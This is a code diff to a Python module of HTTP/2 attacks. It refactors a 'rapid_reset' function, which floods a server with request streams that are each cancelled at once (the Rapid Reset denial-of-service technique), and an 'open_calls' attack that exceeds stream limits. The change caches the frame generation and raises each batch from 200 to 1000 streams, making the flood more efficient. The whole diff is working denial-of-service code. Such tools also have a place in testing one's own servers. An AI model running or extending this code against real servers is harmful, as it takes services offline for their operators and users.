@@ -4,6 +4,7 @@ An attack is a function of a Peer; it returns when the connection has ended, or 
 """
 
 import contextlib
+import functools
 import socket
 import ssl
 import threading
@@ -56,7 +57,6 @@ class Peer:
             raise
         self.ended = threading.Event()
         self.opened = threading.Event()  # HTTP/2 answered
-        self.next_stream = 1
         self.socket.settimeout(0.3)
         with self.ending():
             self.socket.sendall(PREFACE + frame(SETTINGS))
@@ -94,32 +94,37 @@ class Peer:
                 self.socket.sendall(view[:BUFFER])
                 view = view[BUFFER:]
 
-    def calls(self, count, end):
-        """So many calls, each with `end(stream)` behind its headers."""
-        parts = []
-        for _ in range(count):
-            stream = self.next_stream
-            parts.append(frame(HEADERS, END_HEADERS, stream, FIRST_CALL if stream == 1 else NEXT_CALL) + end(stream))
-            self.next_stream += 2
-        return b"".join(parts)
-
     def close(self):
         self.ended.set()
         self.reader.join()
         self.socket.close()
 
 
+@functools.cache
+def calls(count, first, given_up):
+    """So many calls; before them there were `first`."""
+    parts = []
+    for number in range(first, first + count):
+        stream = 2 * number + 1
+        parts.append(frame(HEADERS, END_HEADERS, stream, NEXT_CALL if number else FIRST_CALL))
+        if given_up:
+            parts.append(frame(RESET, 0, stream, b"\0\0\0\x08"))
+    return b"".join(parts)
+
+
 def rapid_reset(peer, seconds):
     """Calls, and each given up at once."""
     end = time.monotonic() + seconds
+    number, count = 0, 1000
     while time.monotonic() < end and not peer.ended.is_set():
-        peer.send(peer.calls(200, lambda stream: frame(RESET, 0, stream, b"\0\0\0\x08")))
+        peer.send(calls(count, number, given_up=True))
+        number += count
 
 
 def open_calls(count):
     def attack(peer, seconds):
         """So many calls, none of which is ended; more than allowed, by who has not acknowledged that there are limits."""
-        peer.send(peer.calls(count, lambda _: b""))
+        peer.send(calls(count, 0, given_up=False))
         peer.ended.wait(seconds)
 
     return attack
